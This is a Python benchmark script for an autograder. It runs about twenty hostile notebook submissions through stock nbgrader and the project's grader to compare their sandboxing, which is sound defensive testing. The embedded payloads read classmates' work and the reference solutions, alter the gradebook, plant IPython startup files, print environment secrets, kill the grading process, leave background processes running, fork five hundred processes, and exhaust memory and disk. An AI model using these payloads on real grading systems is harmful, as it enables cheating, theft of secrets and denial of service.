"""What a submission can do to a machine: stock nbgrader and this grader, side by side.

Each attack is one submission in a class of its own, with a neighbour who is graded
after it, and whether it worked is seen from outside: a file that changed, a secret in
the notebook that was kept, a process that still runs. Stock nbgrader, which protects
nothing, runs in a bubblewrap in which all but the course is read-only.
Run with ``make attacks``.
"""

from __future__ import annotations

import contextlib
import io
import os
import shlex
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat

from autograder.release.course import make_course
from benchmarks.stock import autograde, boxed
from classroom.submissions import hand_in, right_answers, submission

TOPIC = "simplified_attention"
ATTACKER, NEIGHBOUR = "a", "z"
PATIENCE = 180  # seconds for two notebooks
SECRET = "a-secret-of-the-grader"
LIMITS = """
c.ExecutePreprocessor.timeout = 20
c.Limits.cell_seconds = 20
c.Limits.submission_seconds = 60
"""

# In the folder of the course; the kernel of stock nbgrader runs three folders deeper.
FIND = """
import os, time
from pathlib import Path
def course():
    places = [*Path.cwd().parents, Path(os.environ.get("COURSE", "/nowhere"))]
    return next(p for p in places if (p / "nbgrader_config.py").exists())
"""


@dataclass(frozen=True)
class Attack:
    """What a student writes above a solution, and how to see whether it worked."""

    name: str
    source: str
    worked: Callable[[Path], bool]


def main() -> int:
    """Try each attack on both graders and print what came of it."""
    print(f"{'':46}{'stock nbgrader':>20}{'ours':>20}")
    print(f"{'a submission tries to':46}" + f"{'worked':>9}{'neighbour':>11}" * 2)
    counts = [0, 0]
    with (
        tempfile.TemporaryDirectory(prefix="escapes-") as folder,
        contextlib.closing(Listener()) as heard,
    ):
        blank = Path(folder) / "blank"
        with contextlib.redirect_stdout(io.StringIO()):
            make_course(blank, [TOPIC])
        with (blank / "nbgrader_config.py").open("a") as config:
            config.write(LIMITS)
        for number, attack in enumerate(attacks(heard)):
            row = ""
            for which, grade in enumerate((stock, ours)):
                course = Path(folder) / f"{number}-{which}"
                shutil.copytree(blank, course)
                hand_in_attack(course, attack)
                heard.clear()
                grade(course)
                worked = attack.worked(course)
                counts[which] += worked
                graded = (course / "autograded" / NEIGHBOUR).exists()
                row += f"{'yes' if worked else 'no':>9}"
                row += f"{'graded' if graded else 'lost':>11}"
            print(f"{attack.name:46}{row}", flush=True)
    print(f"\nworked, of {number + 1}:")
    print(f"stock nbgrader {counts[0]}, this grader {counts[1]}")
    return 0


def attacks(heard: Listener) -> list[Attack]:
    """All attacks; one of them calls the listener."""
    return [
        Attack(
            "30 read what a classmate handed in",
            FIND
            + "for path in (course() / 'submitted' / 'z').rglob('*.ipynb'):\n"
            + "    print('READ', len(path.read_text()))",
            in_the_notebook("READ"),
        ),
        Attack(
            "30 read the reference solution",
            FIND
            + "for path in (course() / 'source').rglob('*.ipynb'):\n"
            + "    print('SOLUTION', path.read_text().count('BEGIN SOLUTION'))",
            in_the_notebook("SOLUTION"),
        ),
        Attack(
            "31 change what a classmate handed in",
            FIND
            + "for path in (course() / 'submitted' / 'z').rglob('*.ipynb'):\n"
            + "    path.write_text(path.read_text() + ' ')",
            lambda course: notebook(course, "submitted", NEIGHBOUR).endswith(" "),
        ),
        Attack(
            "31 write into the gradebook",
            FIND
            + "import sqlite3\n"
            + "with sqlite3.connect(course() / 'gradebook.db') as book:\n"
            + "    book.execute('CREATE TABLE mine (mark INTEGER)')",
            lambda course: b"TABLE mine" in (course / "gradebook.db").read_bytes(),
        ),
        Attack(
            "31 leave code that runs in every later kernel",
            FIND
            + "place = Path.home() / '.ipython' / 'profile_default' / 'startup'\n"
            + "place.mkdir(parents=True, exist_ok=True)\n"
            + "(place / 'mine.py').write_text('1')",
            lambda course: any((course / "home").rglob("mine.py")),
        ),
        Attack(
            "34 print a secret from the environment",
            "import os\nprint(dict(os.environ))",
            in_the_notebook(SECRET),
        ),
        Attack(
            "30 hold a lock that a neighbour sees",
            "import fcntl, os\n"
            "fcntl.flock(os.open(os.__file__, os.O_RDONLY), fcntl.LOCK_EX)\n"
            "print('LOCKED')",
            in_the_notebook("LOCKED"),
        ),
        Attack(
            "30 be told who opens a file that it holds",
            "import fcntl, os\n"
            "file = os.open(os.__file__, os.O_RDONLY)\n"
            "fcntl.fcntl(file, fcntl.F_SETLEASE, fcntl.F_RDLCK)\n"
            "print('LEASED')",
            in_the_notebook("LEASED"),
        ),
        Attack(
            "30 watch which programs the machine runs",
            "import ctypes\n"
            "libc = ctypes.CDLL(None)\n"
            "if libc.inotify_add_watch(libc.inotify_init1(0), b'/usr/bin', 0x20) > 0:\n"
            "    print('WATCHED')",
            in_the_notebook("WATCHED"),
        ),
        Attack(
            "30 count what runs on the machine",
            "print('COUNTED', open('/proc/loadavg').read())",
            in_the_notebook("COUNTED"),
        ),
        Attack(
            "29 call another computer",
            "import socket\n"
            f"socket.create_connection(('127.0.0.1', {heard.port}), 5).send(b'hello')",
            lambda course: heard.waited_for(),
        ),
        Attack(
            "32 kill the process that grades",
            "import os, time\nos.kill(os.getppid(), 9)\ntime.sleep(2)\n"
            "print('SURVIVED')",
            lambda course: not (course / "autograded" / NEIGHBOUR).exists(),
        ),
        Attack(
            "27 go on running when the grading is over",
            FIND
            + "if os.fork() == 0:\n"
            + "    os.setsid()\n"
            + "    while True:\n"
            + "        (course() / 'alive').write_text(str(time.time()))\n"
            + "        time.sleep(0.1)",
            still_alive,
        ),
        Attack(
            "20 an endless loop that cannot be interrupted",
            "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
            "while True:\n    pass",
            lambda course: not (course / "autograded" / NEIGHBOUR).exists(),
        ),
        Attack(
            "22 use four gigabytes of memory",
            "x = bytearray(4 * 10**9)\nprint('HELD', len(x))",
            in_the_notebook("HELD"),
        ),
        Attack(
            "22 hold three gigabytes that no process has",
            "import socket\n"
            "held, kept = 0, []\n"
            "for n in range(400):\n"
            "    one = socket.socket(socket.AF_UNIX)\n"
            "    one.bind(f'\\0{n}'); one.listen(4096); kept.append(one)\n"
            "    try:\n"
            "        while held < 3 * 10**9:\n"
            "            with socket.socket(socket.AF_UNIX) as other:\n"
            "                other.setblocking(False)\n"
            "                other.connect(one.getsockname())\n"
            "                held += other.send(bytes(180_000))\n"
            "    except OSError: pass\n"
            "print('HELD' if held >= 3 * 10**9 else 'REFUSED')",
            in_the_notebook("HELD"),
        ),
        Attack(
            "30 learn where the files lie on this machine",
            "places = [line.split()[3] for line in open('/proc/self/mountinfo')]\n"
            "if any(place.count('/') > 2 for place in places): print('PLACES')",
            in_the_notebook("PLACES"),
        ),
        Attack(
            "23 fill the disk with two gigabytes",
            FIND
            + "with open('large', 'wb') as file:\n"
            + "    for _ in range(2000):\n"
            + "        file.write(bytes(10**6))\n"
            + "print('FILLED')",
            in_the_notebook("FILLED"),
        ),
        Attack(
            "18 start five hundred processes",
            "import os, time\n"
            "for _ in range(500):\n"
            "    if os.fork() == 0:\n"
            "        time.sleep(5)\n"
            "        os._exit(0)\n"
            "print('STARTED')",
            in_the_notebook("STARTED"),
        ),
        Attack(
            "24 print a hundred megabytes",
            "for _ in range(100):\n    print('x' * 10**6)",
            lambda course: len(notebook(course, "autograded", ATTACKER)) > 10**8,
        ),
    ]


def hand_in_attack(course: Path, attack: Attack) -> None:
    """The attacker's notebook, and a right one of the neighbour."""
    master = nbformat.read(course / "release" / TOPIC / f"{TOPIC}.ipynb", 4)
    answers = right_answers(TOPIC)
    attacked = attack.source + "\n" + answers["softmax"]
    students = {
        ATTACKER: submission(master, {**answers, "softmax": attacked}),
        NEIGHBOUR: submission(master, answers),
    }
    hand_in(course, TOPIC, students)


def stock(course: Path) -> None:
    """``nbgrader autograde``, where it can write to nothing but the course."""
    # Whoever is still there a moment later can be seen.
    script = f"{shlex.join(autograde(TOPIC))}; touch over; sleep 1; exit 0"
    run([*boxed(course), "sh", "-c", script], course)


def ours(course: Path) -> None:
    """``autograder grade``, as it is."""
    grading = [sys.executable, "-m", "autograder", "grade", TOPIC]
    run([*grading, "--course", str(course)], course)
    (course / "over").touch()
    time.sleep(1)


def run(command: list[str], course: Path) -> None:
    """Run a grader, which has a secret and a home folder; stop it if it hangs."""
    (course / "home").mkdir(exist_ok=True)
    own = {"HOME": str(course / "home"), "COURSE": str(course), "TOKEN": SECRET}
    env = os.environ | own
    with contextlib.suppress(subprocess.TimeoutExpired):
        subprocess.run(command, env=env, capture_output=True, timeout=PATIENCE)


def notebook(course: Path, step: str, student: str) -> str:
    """The text of a notebook, or none."""
    path = course / step / student / TOPIC / f"{TOPIC}.ipynb"
    return path.read_text(encoding="utf-8") if path.exists() else ""


def in_the_notebook(text: str) -> Callable[[Path], bool]:
    """Whether the cells of the attacker put out a text."""

    def found(course: Path) -> bool:
        kept = notebook(course, "autograded", ATTACKER)
        outputs = [
            output.get("text", "")
            for cell in (nbformat.reads(kept, 4).cells if kept else [])
            for output in cell.get("outputs", [])
        ]
        return any(text in output for output in outputs)

    return found


def still_alive(course: Path) -> bool:
    """Whether a process wrote its file after the grading was over."""
    alive, over = course / "alive", course / "over"
    return alive.exists() and alive.stat().st_mtime > over.stat().st_mtime + 0.3


class Listener:
    """A server on this machine that remembers that it was called."""

    def __init__(self) -> None:
        self._server = socket.create_server(("127.0.0.1", 0))
        self.port = self._server.getsockname()[1]
        self._called = threading.Event()
        self.clear = self._called.clear
        threading.Thread(target=self._listen, daemon=True).start()

    def waited_for(self) -> bool:
        """Whether somebody calls, or has called."""
        return self._called.wait(1)

    def _listen(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                connection, _ = self._server.accept()
                connection.close()
                self._called.set()

    def close(self) -> None:
        """Listen no more."""
        self._server.close()


if __name__ == "__main__":
    sys.exit(main())
